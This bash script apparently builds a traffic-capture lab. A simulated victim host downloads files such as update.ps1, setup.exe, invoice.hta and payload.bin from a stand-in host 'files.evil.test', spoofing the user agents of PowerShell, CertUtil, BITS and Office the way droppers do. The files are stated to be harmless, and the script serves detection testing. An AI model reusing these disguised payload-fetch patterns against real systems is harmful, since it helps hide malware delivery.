#!/usr/bin/env bash
. "$(dirname "$0")/../lib/lab.sh"
. "$lib/servers.sh"

# Downloads as droppers make them: the user agents of the tools, the files small and harmless.
bridge
host drop 198.51.100.66/24
host www 203.0.113.80/24
host ann 10.20.0.11/24
host ben 10.20.0.12/24
mkdir -p "$lab/drop"
python3 "$lib/dropper.py" "$lab/drop"
make_site "$lab/site"
nginx_on drop 80 <<<"server { listen 80; root $lab/drop; }"
nginx_on www 80 <<<"server { listen 80; root $lab/site; }"
printf '198.51.100.66 files.evil.test raw.paste.test\n203.0.113.80 www.agency.example\n' >>"$lab/hosts"

capture
evil=http://files.evil.test
as() { quiet_curl ann -A "$1" "${@:2}"; }
powershell='Mozilla/5.0 (Windows NT; Windows NT 10.0; da-DK) WindowsPowerShell/5.1.19041.1'
as "$powershell" "$evil/update.ps1"
as "$powershell" "$evil/setup.exe"
as 'Microsoft-CryptoAPI/10.0' "$evil/update.txt"
as 'CertUtil URL Agent' "$evil/setup.exe"
as 'Microsoft BITS/7.8' -I "$evil/setup.exe"
as 'Microsoft BITS/7.8' -r 0-511 "$evil/setup.exe"
as 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; .NET4.0C)' "$evil/invoice.hta"
as 'Microsoft Office Existence Discovery' -I "$evil/template.dotm"
as 'Wget/1.21.3' "$evil/mips"
as 'curl/7.83.1' http://198.51.100.66/install.sh
as 'Mozilla/5.0' "$evil/logo.png"
as '' "$evil/payload.bin"
as 'python-urllib3/1.26' http://raw.paste.test/raw/Ab3dE9
quiet_curl ben http://www.agency.example/logo.png
quiet_curl ben http://www.agency.example/report.txt
finish curl nginx
